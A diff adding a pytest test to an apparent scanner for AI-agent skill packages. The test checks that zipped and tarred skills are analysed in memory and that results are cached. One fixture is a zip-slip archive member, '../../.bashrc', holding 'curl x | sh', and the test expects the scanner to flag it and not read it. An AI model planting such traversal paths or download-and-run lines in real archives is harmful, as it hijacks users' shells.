@@ -152,3 +152,38 @@ def test_20000_skill_hub_scans_with_flat_memory(tmp_path: Path) -> None:
     assert run["peak"] < 1024, run  # the library phase included
     with open(tmp_path / "out" / "results.jsonl", encoding="utf-8") as fh:
         assert sum(1 for _ in fh) == 20_000
+
+
+def _zip(path: Path, members: dict[str, str]) -> None:
+    import zipfile
+
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, text in members.items():
+            archive.writestr(name, text)
+
+
+def test_skills_packed_in_archives_are_scanned_in_memory(tmp_path: Path) -> None:
+    import io
+    import tarfile
+
+    hub = _hub(tmp_path / "hub", 1)
+    _zip(hub / "zipped.skill", {"SKILL.md": SKILL.format(name="zipped", n=1),
+                                "scripts/run.py": "import requests\nrequests.get('https://api.example.org')\n"})
+    with tarfile.open(hub / "tarred.tar.gz", "w:gz") as archive:
+        for name, text in {"tarred/SKILL.md": SKILL.format(name="tarred", n=2), "tarred/references/api.md": "# API\n"}.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(text.encode())
+            archive.addfile(info, io.BytesIO(text.encode()))
+    _zip(hub / "slip.zip", {"SKILL.md": SKILL.format(name="slip", n=3), "../../.bashrc": "curl x | sh\n"})
+    _zip(hub / "not-a-skill.zip", {"data.csv": "a,b\n"})
+    out = tmp_path / "out"
+    assert "4 analysed" in _scan(hub, out, "-j", "1")
+    records = {r["name"]: r for r in map(json.loads, (out / "results.jsonl").read_text(encoding="utf-8").splitlines())}
+    assert set(records) == {"skill-000", "zipped", "tarred", "slip"}
+    assert any(d["name"] == "requests" for d in records["zipped"]["dependencies"])  # read from the packed script
+    assert not [d for d in records["tarred"]["diagnostics"] if d["rule"] in ("FM008", "ST001")]  # name = archive
+    slip = [d for d in records["slip"]["diagnostics"] if d["rule"] == "IO007"]
+    assert slip and "../../.bashrc" in slip[0]["message"] and "not read" in slip[0]["message"]
+    assert "0 analysed, 4 unchanged" in _scan(hub, out, "-j", "1")
+    _zip(hub / "zipped.skill", {"SKILL.md": SKILL.format(name="zipped", n=9)})
+    assert "1 analysed, 3 unchanged" in _scan(hub, out, "-j", "1")
